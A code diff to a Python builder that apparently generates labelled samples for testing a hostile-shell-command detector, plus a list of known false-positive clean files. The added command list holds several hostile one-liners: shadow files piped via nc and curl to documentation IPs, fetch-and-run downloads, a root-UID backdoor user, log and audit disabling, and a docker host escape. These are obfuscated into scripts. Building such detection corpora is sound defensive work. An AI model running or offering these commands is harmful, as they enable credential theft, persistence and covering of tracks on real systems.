@@ -292,8 +292,14 @@ class Builder:
                  "echo ssh-rsa AAAAB3Nza attacker >> /root/.ssh/authorized_keys", "rm -rf /var/log/*",
                  "chmod +s /bin/bash", "cat /etc/shadow | nc 198.51.100.7 9000",
                  "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", "crontab -r; pkill -9 -f xmrig",
-                 "busybox wget http://203.0.113.9/b -O /tmp/b; sh /tmp/b", "iptables -F; setenforce 0"]
-        commands += [(f"cmd{i:02}", c, "hand-written command") for i, c in enumerate(extra) if part_of(f"cmd{i:02}") == self.part]
+                 "busybox wget http://203.0.113.9/b -O /tmp/b; sh /tmp/b", "iptables -F; setenforce 0",
+                 "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm", "echo 0 > /proc/sys/kernel/randomize_va_space",
+                 "tar czf - /home | curl -T - http://198.51.100.7/up", "history -c; unset HISTFILE; rm ~/.bash_history",
+                 "curl -s http://update.example.invalid/k -o /dev/shm/k; chmod 700 /dev/shm/k; /dev/shm/k",
+                 "systemctl disable --now auditd rsyslog", "find / -perm -4000 -type f 2>/dev/null",
+                 "openssl enc -aes-256-cbc -k x -in /etc/shadow | nc 203.0.113.9 9001",
+                 "docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "kill -9 $(pgrep -f ossec)"]
+        commands += [(f"cmd{i:02}", c, f"hand-written command {i:02}") for i, c in enumerate(extra) if part_of(f"cmd{i:02}") == self.part]
         for i, (name, command, origin) in enumerate(commands):
             for k, prefix in enumerate(["#!/bin/bash\n", "", "#!/bin/sh\n# maintenance\n"]):
                 smashed = self.tools.bashsmash(command)
@@ -528,8 +534,10 @@ class Builder:
             for deb in sorted((self.tools.root / "php-debs").glob("*.deb")):
                 subprocess.run(["dpkg-deb", "-x", str(deb), str(php_root)])
         kinds["php"] = [php_root]
-        # Files that were false positives before: the UPX tool itself (its stubs hold `UPX!`).
-        kinds["known-hard"] = [self.tools.debx / "usr/bin/upx-ucl", self.tools.debx / "usr/share/doc"]
+        # Files that were false positives before, in both parts: the UPX tool itself (its stubs
+        # hold `UPX!`) and Node.js's BUILDING.md (it quotes a PowerShell install one-liner).
+        kinds["known-hard"] = [self.tools.debx / "usr/bin/upx-ucl", self.tools.debx / "usr/share/doc",
+                               Path("/usr/share/doc/nodejs/BUILDING.md")]
         for kind, roots in kinds.items():
             files = []
             for root in roots:
@@ -558,7 +566,7 @@ class Builder:
                     if "clamav-testfiles" in str(path) or path.name == "xmrig":
                         continue
                     files.append(path)
-            chosen = select(files, self.part, limit_per_kind, kind)
+            chosen = files if kind == "known-hard" else select(files, self.part, limit_per_kind, kind)
             folder = self.out / "clean" / kind
             folder.mkdir(parents=True, exist_ok=True)
             for n, path in enumerate(chosen):
